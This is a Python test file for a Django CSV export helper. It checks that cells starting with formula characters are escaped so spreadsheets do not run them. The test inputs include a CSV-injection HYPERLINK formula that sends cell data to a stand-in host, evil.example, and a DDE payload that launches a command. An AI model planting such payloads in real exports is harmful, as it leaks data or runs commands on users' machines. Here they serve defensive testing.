"""Tables to take along: whole, row by row, and nothing in them is calculated."""

import csv
from collections.abc import Iterator
from datetime import date
from decimal import Decimal
from io import StringIO

import pytest
from django.utils import translation
from django.utils.translation import gettext
from hypothesis import given
from hypothesis import strategies as st

from planner.kit.csv import Cell, csv_lines, csv_response, harmless

pytestmark = pytest.mark.once


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("Node alerts", "Node alerts"),
        (
            '=HYPERLINK("http://evil.example/?"&A1,"x")',
            '\'=HYPERLINK("http://evil.example/?"&A1,"x")',
        ),
        ("+1", "'+1"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("＝1+1", "'＝1+1"),
        ("＠SUM(A1)", "'＠SUM(A1)"),
        (" =1+1", "' =1+1"),
        ("\u3000=1+1", "'\u3000=1+1"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("a = b", "a = b"),
        ("", ""),
        (None, ""),
        (-3, -3),
        (Decimal("-0.5"), Decimal("-0.5")),
        (True, "true"),
        (date(2026, 5, 21), "2026-05-21"),
    ],
)
def test_cell_is_written_so_that_nothing_is_calculated(
    cell: Cell, written: str | int | Decimal
) -> None:
    assert harmless(cell) == written


@given(st.lists(st.lists(st.text(), min_size=2, max_size=2), max_size=5))
def test_table_is_read_back_as_it_was_written(rows: list[list[str]]) -> None:
    text = "".join(csv_lines(["a", "b"], rows))

    told = list(csv.reader(StringIO(text.removeprefix("\ufeff"), newline="")))

    assert told == [["a", "b"], *([str(harmless(cell)) for cell in row] for row in rows)]
    assert not any(cell.lstrip().startswith(("=", "+", "-", "@")) for row in told for cell in row)


def test_table_is_sent_while_it_is_read() -> None:
    read = 0

    def rows() -> Iterator[tuple[int, str]]:
        nonlocal read
        for read in range(1, 1001):
            yield read, "Sho"

    sent = iter(csv_response("ratio.csv", ["n", "who"], rows()))
    first = next(sent)

    assert first.startswith("\ufeffn,who\r\n1,Sho\r\n".encode())
    assert read < 300
    assert b"1000,Sho\r\n" in b"".join(sent)


def test_rows_are_written_in_the_language_of_who_asked() -> None:
    with translation.override("ja"):
        answer = csv_response("ratio.csv", ["n"], ([gettext("Reactive")] for _ in range(1)))

    with translation.override("en"):
        assert "リアクティブ".encode() in b"".join(answer)


def test_file_has_its_name_and_is_no_page() -> None:
    answer = csv_response("ratio.csv", ["n"], [])

    assert answer["Content-Disposition"] == 'attachment; filename="ratio.csv"'
    assert answer["Content-Type"] == "text/csv; charset=utf-8"
